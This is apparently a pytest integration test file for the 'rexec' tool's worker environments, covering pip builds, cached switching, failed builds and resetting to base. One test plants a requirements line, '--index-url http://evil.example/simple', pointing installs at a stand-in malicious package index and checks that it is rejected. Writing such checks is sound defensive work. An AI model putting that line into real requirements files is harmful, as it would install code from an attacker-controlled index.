"""Worker environments end to end: a real local stack, real pip installs from the package index.

One module-scoped stack and few, tiny packages (``six``/``idna`` pinned to versions the base does
not have), so pip runs only where a test needs a build.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rexec.client.environment import (
    EnvironmentBuildError,
    EnvironmentClient,
    apply_requirements,
    reset_environment,
    set_environment,
)
from rexec.client.outputs import CollectingOutput
from rexec.client.session import Session
from rexec.profile import Profile, read_profile_file
from rexec.requirements import RequirementsError

pytestmark = [pytest.mark.integration, pytest.mark.slow, pytest.mark.timeout(600)]

ENV_A = "six==1.16.0"
ENV_B = "idna==3.6"


@pytest.fixture(scope="module")
def stack_home() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="rexec-envs-") as tmp:
        home = Path(tmp)
        env = {k: v for k, v in os.environ.items() if not k.startswith("REXEC_")}
        env["REXEC_HOME"] = str(home)

        def rexec(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [sys.executable, "-m", "rexec", *args],
                capture_output=True,
                text=True,
                timeout=60,
                env=env,
            )

        up = rexec(
            "up", "--detach", "--broker-port", "0", "--backend-port", "0", "--spawner-port", "0"
        )
        assert up.returncode == 0, up.stderr
        try:
            yield home
        finally:
            rexec("down")


@pytest.fixture
def profile(stack_home: Path) -> Profile:
    found = read_profile_file(stack_home / "profile.json")
    assert found is not None
    return found


@pytest.fixture
def session(profile: Profile) -> Iterator[Session]:
    with Session(profile) as opened:
        yield opened


def remote(session: Session, code: str) -> str:
    out = CollectingOutput()
    reply = session.execute(code, output=out)
    assert reply["status"] == "ok", reply
    return out.text()


def six_version(session: Session) -> str:
    """The version of ``six`` a shipped function (not a cell) sees on the worker."""

    def version() -> str:
        import six  # type: ignore[import-untyped]

        return str(six.__version__)

    return str(session.call(version))


def test_build_use_cache_switch_and_persist(session: Session, profile: Profile, stack_home):
    remote(session, "x = 41")
    out = CollectingOutput()
    started = time.monotonic()
    built = apply_requirements(session, f"{ENV_A}\n", out)
    build_seconds = time.monotonic() - started
    assert built["status"] == "built" and built["restarted"] and not built["cached"]
    assert "Successfully installed six-1.16.0" in out.text()  # pip's output streamed to us
    assert "its variables are gone" in out.text()
    assert session.worker_info is not None and session.worker_info["env_id"] == built["env_id"]
    marker = stack_home / "stack" / "envs" / built["env_id"] / "rexec-env.json"
    built_at = marker.stat().st_mtime_ns
    assert remote(session, "print('x' in dir())") == "False\n"
    # The environment's version wins over the base's (1.17), in cells and in functions.
    assert remote(session, "import six; print(six.__version__)") == "1.16.0\n"
    assert six_version(session) == "1.16.0"
    # rexec itself and the base's packages are still importable there.
    assert remote(session, "import IPython, zmq, rexec; print('ok')") == "ok\n"

    # The same set again is a no-op: no pip, no restart, state kept.
    remote(session, "kept = 7")
    again_out = CollectingOutput()
    started = time.monotonic()
    again = apply_requirements(session, f"# same set\n{ENV_A}\n", again_out)
    noop_seconds = time.monotonic() - started
    assert again["status"] == "active" and not again["restarted"]
    assert "pip" not in again_out.text() and "already active" in again_out.text()
    assert noop_seconds < 1.0 and remote(session, "print(kept)") == "7\n"

    # A -> B builds B; B -> A is a switch without pip.
    other = apply_requirements(session, ENV_B, CollectingOutput())
    assert other["status"] == "built" and other["env_id"] != built["env_id"]
    assert remote(session, "import idna; print(idna.__version__)") == "3.6\n"
    back_out = CollectingOutput()
    started = time.monotonic()
    back = apply_requirements(session, ENV_A, back_out)
    switch_seconds = time.monotonic() - started
    assert back["status"] == "cached" and back["env_id"] == built["env_id"]
    assert "Successfully installed" not in back_out.text() and "pip install" not in back_out.text()
    assert switch_seconds < build_seconds
    assert marker.stat().st_mtime_ns == built_at  # reused as it was, not rebuilt
    assert six_version(session) == "1.16.0"
    print(
        f"\nenvironment timings: build {build_seconds:.2f} s, cached switch "
        f"{switch_seconds:.2f} s, no-op {noop_seconds:.3f} s"
    )

    # Recorded with the spawner: a worker started later comes up in the environment.
    api = EnvironmentClient(profile.spawner_url or "", profile.require_token())
    assert (api.get_environment("default") or {})["env_id"] == built["env_id"]
    api.close()
    assert session.delete_worker()
    assert six_version(session) == "1.16.0"
    assert (session.worker_info or {}).get("env_id") == built["env_id"]
    assert marker.stat().st_mtime_ns == built_at


def test_worker_started_with_an_unbuilt_environment_builds_it_before_registering(
    session: Session, profile: Profile
):
    api = EnvironmentClient(profile.spawner_url or "", profile.require_token())
    try:
        recorded = api.put_environment("default", ["six==1.15.0"])
    finally:
        api.close()
    assert session.delete_worker()
    progress: list[str] = []
    with Session(profile, progress=progress.append) as fresh:
        assert six_version(fresh) == "1.15.0"
        assert (fresh.worker_info or {}).get("env_id") == recorded["env_id"]
    assert any(f"building environment {recorded['env_id']}" in line for line in progress)


def recorded_env(profile: Profile) -> str:
    api = EnvironmentClient(profile.spawner_url or "", profile.require_token())
    try:
        return str((api.get_environment("default") or {"env_id": "base"})["env_id"])
    finally:
        api.close()


def test_failed_build_keeps_the_worker_and_its_variables(session: Session, profile: Profile):
    before = (session.worker_info or {}).get("env_id")
    assert recorded_env(profile) == before
    remote(session, "survivor = 'still here'")
    with pytest.raises(EnvironmentBuildError) as info:
        apply_requirements(session, "rexec-no-such-package-zz9==1.0\n", CollectingOutput())
    message = str(info.value)
    assert "rexec-no-such-package-zz9" in message
    assert "ERROR:" in message  # pip's own words
    assert "previous environment" in message
    assert remote(session, "print(survivor)") == "still here\n"
    with pytest.raises(EnvironmentBuildError, match="conflicting"):
        apply_requirements(session, "six==1.16.0\nsix==1.15.0\n", CollectingOutput())
    assert remote(session, "print(survivor)") == "still here\n"
    assert (session.worker_info or {}).get("env_id") == before
    # The spawner's record is put back too, so a restarted worker does not retry the failure.
    assert recorded_env(profile) == before


def test_refused_line_is_named_and_nothing_changes(session: Session, tmp_path: Path):
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("six\n--index-url http://evil.example/simple\n")
    remote(session, "stays = 1")
    with pytest.raises(RequirementsError) as info:
        set_environment(session, requirements)
    assert info.value.line_number == 2 and "installer options" in str(info.value)
    assert remote(session, "print(stays)") == "1\n"


@pytest.mark.filterwarnings("ignore:the worker is not in the environment")
def test_a_worker_whose_environment_cannot_be_built_serves_from_base_and_says_why(
    session: Session, profile: Profile
):
    api = EnvironmentClient(profile.spawner_url or "", profile.require_token())
    try:
        api.put_environment("default", ["rexec-no-such-package-zz9==1.0"])
        assert session.delete_worker()
        with Session(profile) as fresh:
            assert fresh.call(lambda: 42) == 42
            info = fresh.worker_info or {}
            assert info.get("env_id") == "base" and "could not be built" in info["env_error"]
            assert any("not in the environment set for it" in w for w in fresh.skew_warnings)
    finally:
        api.delete_environment("default")
        api.close()
        session.delete_worker()  # the next test gets a worker without the failed environment


def test_back_to_base(session: Session):
    apply_requirements(session, ENV_A, CollectingOutput())
    result = reset_environment(session, CollectingOutput())
    assert result["env_id"] == "base" and (session.worker_info or {}).get("env_id") == "base"
    assert six_version(session) != "1.16.0"
